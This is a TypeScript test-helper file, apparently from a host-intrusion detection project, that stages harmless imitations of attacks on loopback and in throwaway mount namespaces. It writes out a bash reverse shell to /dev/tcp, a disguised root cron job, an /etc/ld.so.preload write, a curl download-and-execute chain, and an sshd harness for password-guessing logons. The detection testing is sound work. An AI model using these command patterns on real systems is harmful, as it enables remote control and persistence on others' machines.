/** Harmless acts that look like attacks. Everything stays on loopback; what touches system files happens in a disposable mount namespace. */
import { type ChildProcess, spawn } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

export interface Finished {
  code: number | null
  output: string
}

export function runCommand(command: string, args: readonly string[], timeoutMs = 60_000, cwd = '/'): Promise<Finished> {
  return new Promise((done, failed) => {
    const child = spawn(command, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'], timeout: timeoutMs })
    let output = ''
    child.stdout.on('data', (chunk) => {
      output += chunk
    })
    child.stderr.on('data', (chunk) => {
      output += chunk
    })
    child.once('error', failed)
    child.once('close', (code) => done({ code, output }))
  })
}

/** `bash` with its input and output on a TCP connection to a listener on loopback; the listener sends `exit` at once. */
export async function reverseShell(): Promise<{ port: number; command: string }> {
  const listener = createServer((socket) => {
    socket.on('error', () => {})
    // Whatever the shell says is read and dropped; a socket that nobody reads never closes.
    socket.resume()
    setTimeout(() => socket.end('exit\n'), 100)
  })
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done))
  const { port } = listener.address() as { port: number }
  const command = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`
  await runCommand('setsid', ['bash', '-c', command])
  await new Promise((done) => listener.close(done))
  return { port, command }
}

/** Runs a script with its own mount namespace in which `/etc` is an overlay that vanishes with it. */
export async function inDisposableEtc(script: string): Promise<Finished> {
  const folder = mkdtempSync(join(tmpdir(), 'rampart-etc-'))
  try {
    const prepare = [
      'set -e',
      'mount --make-rprivate /',
      `mount -t tmpfs none ${folder}`,
      `mkdir ${folder}/upper ${folder}/work`,
      `mount -t overlay overlay -o lowerdir=/etc,upperdir=${folder}/upper,workdir=${folder}/work /etc`,
    ].join('\n')
    return await runCommand('unshare', ['-m', 'bash', '-c', `${prepare}\n${script}`])
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

/** A job file appears in /etc/cron.d, written by a shell. */
export function cronWrite(): Promise<Finished> {
  return inDisposableEtc(`echo '* * * * * root /var/tmp/.cache/update >/dev/null 2>&1' > /etc/cron.d/system-update`)
}

/** /etc/ld.so.preload is written. It names nothing that exists, and only this namespace sees it. */
export function preloadWrite(): Promise<Finished> {
  return inDisposableEtc(`echo > /etc/ld.so.preload`)
}

/** A script is fetched from a web server on loopback into /tmp, made executable and run. */
export async function downloadAndExecute(): Promise<{ path: string; finished: Finished }> {
  const server = createHttpServer((_request, response) => response.end('#!/bin/sh\nexit 0\n'))
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as { port: number }
  const path = join(tmpdir(), `.update-${process.pid}-${port}`)
  try {
    const script = `curl -s -o ${path} http://127.0.0.1:${port}/update.sh && chmod +x ${path} && ${path}`
    return { path, finished: await runCommand('bash', ['-c', script]) }
  } finally {
    await new Promise((done) => server.close(done))
    rmSync(path, { force: true })
  }
}

export interface SshServer {
  port: number
  /** One try, which runs `command` when it succeeds; resolves to the exit status of ssh. */
  logon(password: string, command?: string): Promise<number | null>
  /** Runs a program in the network of the server. */
  run(command: string, args: readonly string[]): ChildProcess
  password: string
  stop(): Promise<void>
}

/**
 * A real sshd on loopback with PAM and a real syslog daemon that writes `authLog`. User, host key and /dev/log live in a
 * mount namespace and vanish with it. With `addresses` it has a network of its own, in which server and client have these.
 */
export async function startSshServer(
  authLog: string,
  port: number,
  addresses?: { server: string; client: string },
): Promise<SshServer> {
  const folder = mkdtempSync(join(tmpdir(), 'rampart-ssh-'))
  const password = 'Correct-Horse-1'
  const server = addresses?.server ?? '127.0.0.1'
  const network = addresses
    ? `ip link set lo up\nip address add ${addresses.server}/32 dev lo\nip address add ${addresses.client}/32 dev lo`
    : ''
  const script = `
set -e
${network}
mount --make-rprivate /
mkdir ${folder}/etc ${folder}/dev
mount -t tmpfs none ${folder}/etc
mkdir ${folder}/etc/upper ${folder}/etc/work
mount -t overlay overlay -o lowerdir=/etc,upperdir=${folder}/etc/upper,workdir=${folder}/etc/work /etc
mount -t tmpfs -o mode=755 none ${folder}/dev
for node in null zero full random urandom tty; do touch ${folder}/dev/$node; mount --bind /dev/$node ${folder}/dev/$node; done
mkdir ${folder}/dev/pts ${folder}/dev/shm
mount --rbind /dev/pts ${folder}/dev/pts
ln -s pts/ptmx ${folder}/dev/ptmx
mount --move ${folder}/dev /dev
mkdir -p /run/sshd
cat > ${folder}/rsyslog.conf <<'CONF'
module(load="imuxsock" SysSock.Name="/dev/log" SysSock.RateLimit.Interval="0")
$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat
auth,authpriv.* ${authLog}
CONF
rsyslogd -n -f ${folder}/rsyslog.conf -i ${folder}/rsyslog.pid &
syslog=$!
useradd -M -d /tmp -s /bin/sh tester
echo 'tester:${password}' | chpasswd
# Whoever logs on may leave something behind, in this namespace only.
chmod 777 /etc/cron.d
# Wrong passwords are answered at once, so that the test does not wait for PAM's delay.
sed -i 's/pam_unix.so/pam_unix.so nodelay/' /etc/pam.d/common-auth
ssh-keygen -q -t ed25519 -N '' -f ${folder}/hostkey
/usr/sbin/sshd -D -p ${port} -o ListenAddress=${server} -h ${folder}/hostkey -o UsePAM=yes -o PidFile=none -o MaxStartups=100 -f /dev/null &
daemon=$!
trap 'kill $daemon $syslog' TERM
wait $daemon
`
  const child = spawn('unshare', [addresses ? '-mn' : '-m', 'bash', '-c', script], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let output = ''
  child.stderr.on('data', (chunk) => {
    output += chunk
  })
  const known = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR']
  const once = [
    '-o',
    'NumberOfPasswordPrompts=1',
    '-o',
    'PreferredAuthentications=password',
    '-o',
    'PubkeyAuthentication=no',
  ]
  const enter = addresses ? ['nsenter', '-t', String(child.pid), '-n'] : []
  const inside = (command: string, args: readonly string[]) => {
    const [program = command, ...rest] = [...enter, command, ...args]
    return [program, rest] as const
  }
  const logon = async (tried: string, command = 'true') =>
    (
      await runCommand(
        ...inside('sshpass', [
          '-p',
          tried,
          'ssh',
          '-p',
          String(port),
          ...known,
          ...once,
          ...(addresses ? ['-b', addresses.client] : []),
          `tester@${server}`,
          command,
        ]),
      )
    ).code
  for (let tries = 0; ; tries++) {
    const scan = await runCommand(...inside('ssh-keyscan', ['-T', '1', '-p', String(port), server]))
    if (scan.output.includes('ssh-ed25519')) break
    if (tries > 100 || child.exitCode !== null) throw new Error(`sshd did not start:\n${output}`)
    await new Promise((done) => setTimeout(done, 100))
  }
  return {
    port,
    logon,
    run: (command, args) => spawn(...inside(command, args), { stdio: ['ignore', 'pipe', 'inherit'] }),
    password,
    async stop() {
      const ended = new Promise((done) => child.once('exit', done))
      child.kill('SIGTERM')
      await ended
      rmSync(folder, { recursive: true, force: true })
    },
  }
}
